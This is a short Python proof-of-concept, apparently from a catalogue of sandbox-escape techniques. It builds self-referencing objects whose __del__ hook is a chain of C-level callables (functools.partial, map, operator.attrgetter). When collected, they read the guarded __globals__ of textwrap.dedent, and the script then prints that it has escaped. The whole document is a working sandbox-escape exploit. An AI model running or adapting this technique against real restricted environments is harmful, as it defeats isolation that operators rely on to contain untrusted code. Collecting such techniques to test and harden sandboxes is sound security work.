# technique: the same chain reads a guarded attribute
# goal: globals
# source: own analysis: C callables have no frame
import functools
import operator
import textwrap
kept = []
get = operator.attrgetter('__globals__')
for _ in range(400):
    class Bomb:
        __del__ = staticmethod(functools.partial(next, map(kept.append, map(get, [textwrap.dedent])), None))
    bomb = Bomb()
    bomb.self = bomb
del bomb
import difflib, calendar, statistics, uuid, hashlib
if isinstance(kept[0], dict) and kept[0]['__name__'] == 'textwrap':
    print('ESCAPED globals of textwrap')
